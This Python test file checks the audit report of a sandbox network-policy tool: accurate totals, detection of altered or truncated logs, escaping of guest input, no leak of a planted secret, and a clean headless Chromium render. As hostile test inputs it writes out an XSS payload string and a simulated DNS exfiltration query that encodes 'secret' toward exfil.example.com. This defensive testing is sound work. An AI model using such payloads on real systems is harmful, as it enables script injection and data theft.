"""The page about a run: what it says is what happened, and a guest cannot
write in it."""
import hashlib
import json
import os
import re
import shutil
import struct
import zlib

from harness import shell
from harness.claims import Skip, claim, contains, equal, lacks, until
from harness.origins import Nginx
from harness.world import World

ADDRESS = "10.201.0.10"
NAMES = {f"{host}.example.com": ADDRESS
         for host in ("web", "api", "other", "closed")}
CANARY = "canary-of-the-report-55d1"

POLICY = """\
[policy]
version = 1

; What the page shows of this line is text, <b>not bold</b>.
[allow web]
host   = web.example.com
method = GET
path   = /open/**

[allow api]
host   = api.example.com
method = POST
credential = acme

[allow idle]
host = other.example.com

[allow closed]
host = closed.example.com
"""
CEILING = """\
[policy]
version = 1

[allow most]
host = web.example.com, api.example.com, other.example.com
"""
CREDENTIAL = """
[credential acme]
kind  = static
value = file:{file}
host  = api.example.com
apply = bearer
strip = authorization
grant = * user:root
"""
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&"

_world = {}


def visit(s):
    """What a guest does: 4 allowed, 5 refused."""
    web = "https://web.example.com"
    for path in ("/open/a", "/open/b", "/open/missing"):
        s.curl("-o", "/dev/null", f"{web}{path}").ok()
    s.curl("-o", "/dev/null", "-A", MARKUP, "--data", "x" * 5000,
           "https://api.example.com/v1/results").ok()
    s.curl("-X", "DELETE", f"{web}/open/a")
    s.curl("-g", f"{web}/shut/" + MARKUP.replace(" ", "%20"))
    s.curl(f"{web}/shut/b;c,d%3Cb%3E")
    for _ in range(2):
        s.curl("https://closed.example.com/x")
    s.run(["dig", "+tries=1", "+time=2", f"@{s.info['dns']}",
           "\\<b\\>.exfil.example.com", "TXT"])
    s.run(["dig", "+tries=1", "+time=2", f"@{s.info['dns']}",
           "c2vjcmv0.exfil.example.com", "TXT"])


def world():
    if not _world:
        w = World(NAMES, ceiling=CEILING, start=False)
        secret = w.file("secret", CANARY + "\n", 0o600)
        with open(w.config, "a", encoding="ascii") as f:
            f.write(CREDENTIAL.format(file=secret))
        w.start()
        cert, key = w.authority.issue(*NAMES)
        w.own(Nginx(w.net, f"{w.folder}/nginx", f"""
          server {{ listen {ADDRESS}:443 ssl; ssl_certificate {cert};
            ssl_certificate_key {key};
            location /open/missing {{ return 404 "no\\n"; }}
            location / {{ return 200 "{'x' * 3000}\\n"; }} }}"""))
        s = w.sandbox(POLICY)
        visit(s)
        until(lambda: len(w.audit(s.name, event="request")) >= 9, 5, "records")
        s.rm().ok()
        w.audited(s.name, event="lifecycle", detail="removed")
        _world.update(w=w, s=s)
    return _world["w"], _world["s"]


def log_of(w):
    return f"{w.folder}/log/audit.jsonl"


@claim("report: a sandbox that has ended is told as it was, from its log")
def _():
    w, s = world()
    got = json.loads(w.cli("report", s.name, "--json", "--policy", s.policy).ok().out)
    records = w.audit(s.name)
    requests = [r for r in records if r["event"] == "request"]
    totals = got["totals"]
    equal((got["has_begin"], got["has_ended"], got["records"]),
          (True, True, len(records)), "the whole")
    equal(totals["allowed"], 4, "allowed")
    equal(totals["requests"], len(requests), "requests")
    equal(totals["refused"],
          sum(r["verdict"] == "deny" for r in requests), "refused")
    for way in ("up", "down"):
        equal(totals[way], sum(r.get(way, 0) for r in records), way)
        equal(sum(h[way] for h in got["hosts"]), totals[way], f"{way} by host")
        equal(sum(slot[2 if way == "up" else 3] for slot in got["timeline"]["slots"]),
              totals[way], f"{way} over time")
    hosts = {h["host"]: h for h in got["hosts"]}
    equal((hosts["web.example.com"]["2xx"], hosts["web.example.com"]["4xx"]),
          (2, 1), "statuses")
    equal(hosts["api.example.com"]["credentials"], ["acme"], "credential")
    refused = {(r["host"], r["reason"]): r for r in got["refused"]}
    contains(refused["web.example.com", "method"]["remedy"], "method  = DELETE", "remedy")
    closed = refused["closed.example.com", "ceiling-no-rule"]
    equal((closed["requests"], closed["remedy"]), (2, None), "by the ceiling")
    equal([n["host"] for n in got["names"] if "c2vj" in n["host"]],
          ["c2vjcmv0.exfil.example.com"], "names")
    equal([(c["credential"], c["requests"]) for c in got["credentials"]],
          [("acme", 1)], "credentials")
    equal([p["digest"] for p in got["policies"]],
          [hashlib.sha256(POLICY.encode()).hexdigest()], "policies")
    equal(got["policies"][0]["text"], POLICY, "the policy's text")
    equal(got["unused_rules"][0], "idle", "rules that decided nothing")
    equal(got["log"]["chain"], "whole", "chain")
    # What it proposes is a policy that lets just this through.
    learned = w.file("mended.ini", POLICY + "\n" +
                     refused["web.example.com", "method"]["remedy"])
    w.cli("explain", "--policy", learned, "--method", "DELETE",
          "https://web.example.com/open/a").ok()
    equal(w.cli("explain", "--policy", learned, "--method", "DELETE",
                "https://web.example.com/open/b").code, 1, "and no more")


@claim("report: a page is written whole, and never over what is there by chance")
def _():
    w, s = world()
    page = f"{w.folder}/page.html"
    w.cli("report", s.name, "--policy", s.policy, "-o", page).ok()
    with open(page, encoding="utf-8") as f:
        text = f.read()
    lacks(text, CANARY, "a secret")
    lacks(text, "<script", "a guest's markup")
    lacks(text, "<img", "a guest's markup")
    contains(text, "What the page shows of this line is text, "
             "&lt;b&gt;not bold&lt;/b&gt;.", "the policy")
    equal(re.findall(r"<[^>]*(?:src|href|url)=", text), [], "what is loaded")
    refused = w.cli("report", s.name, "-o", page)
    equal(refused.code, 1, "over a file")
    contains(refused.err, "File exists", "over a file")
    w.cli("report", s.name, "-o", page, "--force").ok()
    contains(w.cli("report", s.name, "-o", "-").ok().out, "</html>", "stdout")
    contains(w.cli("report", s.name, "-o", "/dev/null", "--force").err,
             "not a regular file", "a device")
    contains(w.cli("report", s.name, "--json", "--policy", w.file(
        "another.ini", POLICY + "\n")).err, "no record was made under", "another")
    equal([n for n in os.listdir(w.folder) if n.startswith("page.html")],
          ["page.html"], "what is left")
    equal(w.cli("report", "nobody", "-o", "-").code, 1, "a name without records")


@claim("report: a log that was changed, cut or starts later is told, and ends with status 1")
def _():
    w, s = world()
    with open(log_of(w), encoding="ascii") as f:
        lines = f.read().splitlines(keepends=True)
    mine = [i for i, line in enumerate(lines) if f'"{s.name}"' in line]
    at = next(i for i in mine[3:] if '"verdict":"deny"' in lines[i])
    cases = {
        "changed": lines[:at] + [lines[at].replace('"up":0', '"up":1')
                                 .replace('"deny"', '"allow"')] + lines[at + 1:],
        "removed": lines[:at] + lines[at + 1:],
        "swapped": lines[:at] + [lines[at + 1], lines[at]] + lines[at + 2:],
        "cut": lines[:-1] + [lines[-1][:-30]],
    }
    for name, text in cases.items():
        path = w.file(f"{name}.jsonl", "".join(text))
        got = w.cli("report", s.name, "--file", path, "-o", "-")
        equal(got.code, 1, name)
        contains(got.out, "The audit log is not whole", name)
        contains(got.err, "is not whole", name)
    later = w.file("later.jsonl", "".join(lines[mine[2]:]))
    got = w.cli("report", s.name, "--file", later, "-o", "-").ok()
    contains(got.out, "The begin is missing", "later")
    contains(got.out, "from number", "later")
    first = w.file("first.jsonl", "".join(lines[:mine[2]]))
    got = w.cli("report", s.name, "--file", first, "--file", later, "-o", "-").ok()
    lacks(got.out, "The begin is missing", "both files")


@claim("report: its owner reads one, and learns that the chain was not checked")
def _():
    w, s = world()
    name = f"own-{w.id}"

    def as_owner(*argv):
        return shell.run(["setpriv", "--reuid=65534", "--regid=0",
                          "--clear-groups", f"{w.tree}/bin/tapward",
                          "--socket", w.socket, *argv], cwd="/")

    as_owner("create", name, "--policy", s.policy).ok()
    report = json.loads(as_owner("report", name, "--json").ok().out)
    equal(report["log"]["chain"], "unchecked", "chain")
    equal((report["has_begin"], report["has_ended"]), (True, False), "its life")
    contains(as_owner("report", name, "-o", "-").ok().out,
             "The chain of the audit log was not checked", "the page")
    contains(as_owner("report", s.name, "--json").err, "no such sandbox",
             "another's")
    as_owner("rm", name).ok()


def pixels(path):
    """{(red, green, blue): how many} of a PNG of 8 bits a channel."""
    with open(path, "rb") as f:
        data = f.read()
    at, idat, counts = 8, b"", {}
    while at < len(data):
        size, kind = struct.unpack(">I4s", data[at:at + 8])
        body = data[at + 8:at + 8 + size]
        if kind == b"IHDR":
            width, height, _, colour = struct.unpack(">IIBB", body[:10])
        elif kind == b"IDAT":
            idat += body
        at += 12 + size
    step = 4 if colour == 6 else 3
    raw, before = zlib.decompress(idat), bytes(width * step)
    for y in range(height):
        line = bytearray(raw[y * (width * step + 1):(y + 1) * (width * step + 1)])
        how = line.pop(0)
        for x in range(width * step if how else 0):
            a = line[x - step] if x >= step else 0
            b, c = before[x], before[x - step] if x >= step else 0
            near = min((abs(b - c), 0, a), (abs(a - c), 1, b),
                       (abs(a + b - 2 * c), 2, c))[2] if how == 4 else 0
            line[x] = line[x] + (0, a, b, (a + b) // 2, near)[how] & 255
        before = bytes(line)
        for x in range(0, width * step, step):
            pixel = tuple(line[x:x + 3])
            counts[pixel] = counts.get(pixel, 0) + 1
    return counts


@claim("report: Chromium shows it in light and takes no script, style or load but ours")
def _():
    w, s = world()
    if not shutil.which("chromium"):
        raise Skip("chromium is not installed")
    page, shot = f"{w.folder}/shown.html", f"{w.folder}/shown.png"
    w.cli("report", s.name, "--policy", s.policy, "-o", page).ok()
    # Without a network: whatever it wanted to load would fail.
    got = shell.run(
        ["unshare", "--net", "chromium", "--headless", "--no-sandbox",
         "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update",
         "--disable-sync", "--hide-scrollbars", "--enable-logging=stderr",
         f"--user-data-dir={w.folder}/chromium", "--window-size=600,480",
         f"--screenshot={shot}", f"file://{page}"], timeout=30,
        env={"PATH": os.environ["PATH"], "HOME": w.folder, "TMPDIR": w.folder})
    equal(got.code, 0, repr(got))
    for word in ("CONSOLE", "Refused to", "Content Security Policy"):
        lacks(got.err, word, "the browser's console")
    colours = pixels(shot)
    # Ink on paper, and the marks of the two series: the style was taken.
    for what, colour in (("paper", (255, 255, 255)), ("ink", (27, 36, 48)),
                         ("let through", (26, 127, 90))):
        if colours.get(colour, 0) < 20:
            raise AssertionError(f"{what} {colour} is not to be seen: "
                                 f"{sorted(colours.items(), key=lambda c: -c[1])[:8]}")
